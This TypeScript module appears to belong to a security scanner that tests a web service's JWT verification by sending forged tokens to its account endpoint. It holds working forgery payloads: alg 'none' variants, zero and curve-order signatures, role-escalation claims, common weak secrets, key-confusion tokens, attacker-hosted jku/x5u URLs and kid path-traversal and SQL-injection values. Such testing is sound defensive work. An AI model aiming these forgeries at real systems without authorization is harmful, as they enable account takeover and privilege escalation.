import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKeyInput, type KeyObject, sign } from "node:crypto";
import { ask, withToken } from "./ask.ts";
import type { Scan } from "./scan.ts";
import { PATHS, type Target } from "./target.ts";

type Json = Readonly<Record<string, unknown>>;
interface Real {
  readonly token: string;
  readonly header: Json;
  readonly claims: Json;
  /** The published key, as whoever mixes up algorithms would use it as a secret. */
  readonly published: readonly string[];
}

const encode = (value: Json | Uint8Array): string =>
  Buffer.from(value instanceof Uint8Array ? value : JSON.stringify(value)).toString("base64url");
const unsigned = (header: Json, claims: Json): string => `${encode(header)}.${encode(claims)}`;
const hmac = (header: Json, claims: Json, secret: string): string => {
  const text = unsigned({ ...header, alg: "HS256" }, claims);
  return `${text}.${createHmac("sha256", secret).update(text).digest("base64url")}`;
};
const es256 = (header: Json, claims: Json, key: KeyObject): string => {
  const text = unsigned(header, claims);
  return `${text}.${encode(sign("sha256", Buffer.from(text), { key, dsaEncoding: "ieee-p1363" }))}`;
};
const own = generateKeyPairSync("ec", { namedCurve: "P-256" });
const rsa = generateKeyPairSync("rsa", { modulusLength: 2_048 });
const OWN_JWK = own.publicKey.export({ format: "jwk" });
/** The order of P-256: r = s = n is 0 to whoever does not look. */
const ORDER = Buffer.from("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", "hex");
const SIGNATURE_BYTES = 64;
const COMMON_SECRETS = [
  "",
  "secret",
  "password",
  "changeme",
  "your-256-bit-secret",
  "super-secret-jwt-token-with-at-least-32-characters-long",
];

const FORGERIES: Readonly<Record<string, (real: Real) => readonly string[]>> = {
  "algorithm none": ({ header, claims }) => ["none", "None", "NONE", "nOnE", ""].map((alg) => `${unsigned({ ...header, alg }, claims)}.`),
  "algorithm none with the old signature": ({ token, header, claims }) => [
    `${unsigned({ ...header, alg: "none" }, claims)}.${token.split(".")[2]}`,
  ],
  "no signature": ({ header, claims }) => [`${unsigned(header, claims)}.`, unsigned(header, claims)],
  "a signature of zeros": ({ header, claims }) => [`${unsigned(header, claims)}.${encode(new Uint8Array(SIGNATURE_BYTES))}`],
  "a signature of the order": ({ header, claims }) => [`${unsigned(header, claims)}.${encode(Buffer.concat([ORDER, ORDER]))}`],
  "another role under the old signature": ({ token, header, claims }) =>
    [{ role: "service_role" }, { aal: "aal2" }, { app_metadata: { roles: ["doctor", "operator"] } }, { exp: 9_000_000_000 }].map(
      (change) => `${unsigned(header, { ...claims, ...change, sub: claims["sub"] })}.${token.split(".")[2]}`,
    ),
  "a secret that everybody tries": ({ header, claims }) => COMMON_SECRETS.map((secret) => hmac(header, claims, secret)),
  "the published key as a secret": ({ header, claims, published }) => published.map((secret) => hmac(header, claims, secret)),
  "a key of its own": ({ header, claims }) => [
    es256(header, claims, own.privateKey),
    es256({ ...header, jwk: OWN_JWK }, claims, own.privateKey),
    es256({ ...header, jwk: OWN_JWK, kid: undefined }, claims, own.privateKey),
    es256({ ...header, jku: "https://stranger.example/keys.json" }, claims, own.privateKey),
    es256({ ...header, x5u: "https://stranger.example/chain.pem" }, claims, own.privateKey),
  ],
  "another algorithm": ({ header, claims }) => {
    const text = unsigned({ ...header, alg: "RS256" }, claims);
    return [`${text}.${encode(sign("sha256", Buffer.from(text), rsa.privateKey))}`];
  },
  "a key id that leads elsewhere": ({ header, claims }) =>
    ["../../../../dev/null", "/dev/null", "' UNION SELECT ''-- ", "0", ""].flatMap((kid) => [
      hmac({ ...header, kid }, claims, ""),
      es256({ ...header, kid }, claims, own.privateKey),
    ]),
  "an unknown critical header": ({ header, claims }) => [es256({ ...header, crit: ["b64"], b64: false }, claims, own.privateKey)],
};

export const TOKEN_SCAN: Scan = {
  name: "forged, altered and ended tokens",
  bites: [...Object.keys(FORGERIES), "a token whose owner signed out"].map((name) => new RegExp(`^${name} `, "m")),
  async run(target) {
    const real = await readReal(target);
    const found: string[] = [];
    const attempt = async (name: string, token: string): Promise<void> => {
      const { status } = await ask(target, { path: PATHS.account, headers: withToken(target, token) });
      if (status === 200) found.push(`${name} is taken: ${token.slice(0, 80)}`);
      else if (status !== 401 && status !== 403) throw new Error(`${name}: answered with ${status}`);
    };
    for (const [name, forge] of Object.entries(FORGERIES)) {
      for (const token of forge(real)) await attempt(name, token);
    }
    await attempt("a token whose owner signed out", target.endedToken);
    await readReal(target);
    return found;
  },
};

/** The scan means something only where the real token opens what the forged ones do not. */
async function readReal(target: Target): Promise<Real> {
  const { token } = target;
  const { status } = await ask(target, { path: PATHS.account, headers: withToken(target, token) });
  if (status !== 200) throw new Error(`The real token is answered with ${status}.`);
  const [header = "", claims = ""] = token.split(".");
  const decode = (part: string): Json => JSON.parse(Buffer.from(part, "base64url").toString());
  const { body } = await ask(target, { path: PATHS.keys });
  const { keys }: { readonly keys: readonly JsonWebKeyInput["key"][] } = JSON.parse(body);
  const published = keys.flatMap((key) => {
    const pem = createPublicKey({ key, format: "jwk" }).export({ type: "spki", format: "pem" });
    return [String(pem), String(pem).trim(), JSON.stringify(key), `${key.x}`];
  });
  return { token, header: decode(header), claims: decode(claims), published };
}
